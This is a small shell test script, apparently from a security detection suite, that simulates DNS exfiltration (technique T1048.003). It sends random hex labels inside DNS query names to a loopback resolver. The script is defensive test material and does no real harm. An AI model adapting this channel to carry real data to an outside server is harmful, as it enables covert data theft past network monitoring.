#!/bin/sh
# case: T1048.003-names-carry-data
# technique: Data carried out in DNS names
# source: redcanaryco/atomic-red-team T1048.003-4 Exfiltration Over Alternative Protocol - DNS
# needs: python3
# expect: net
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
python3 -c 'import socket,os
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
for i in range(12):
    q=os.urandom(20).hex().encode();n=b"".join(bytes([len(x)])+x for x in (q,b"ho",b"invalid"))+b"\0"
    s.sendto(b"\x12\x34\1\0\0\1\0\0\0\0\0\0"+n+b"\0\1\0\1",("127.0.0.1",53))'
exit 0
